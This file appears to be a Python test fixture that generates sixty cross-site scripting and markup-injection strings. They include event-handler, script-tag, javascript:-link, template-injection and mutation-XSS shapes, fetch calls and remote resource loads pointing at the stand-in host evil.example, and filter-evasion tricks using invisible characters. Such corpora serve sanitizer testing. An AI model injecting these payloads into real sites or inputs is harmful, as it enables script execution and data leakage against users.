"""Sixty texts that would like to be more than texts: markup, scripts, links, templates, pictures from elsewhere."""

_RUNS = ("alert(1)", "alert`1`", "fetch('http://evil.example/')")
_SHAPES = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "</textarea><img src=x onerror={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}>x</details>",
    "<a href='javascript:{run}'>bank</a>",
    "[bank](javascript:{run})",
    '"><img src=x onerror={run}>',
    "' autofocus onfocus={run} x='",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={run}></style></mglyph></math>",
)
_PLAIN = (
    "<img src='http://evil.example/a.png'>",
    "![bank](http://evil.example/b.png)",
    "![bank][1]\n\n[1]: http://evil.example/c.png",
    "<link rel=stylesheet href='http://evil.example/d.css'>",
    "<style>@import 'http://evil.example/e.css';</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href='http://evil.example/'>",
    "<form action='http://evil.example/'><button autofocus>bank</button></form>",
    "<video autoplay src='http://evil.example/f.mp4' onerror=alert(1)>",
    "<object data='http://evil.example/g.svg'></object>",
    "<embed src='javascript:alert(1)'>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<!--<img src=x onerror=alert(1)>-->",
    "\u202e<img src=x onerror=alert(1)>",
    "<im\u200bg src=x onerror=alert(1)><img\tsrc=x onerror=alert(1)>",
)

TEXTS = (*(shape.format(run=run) for run in _RUNS for shape in _SHAPES), *_PLAIN)
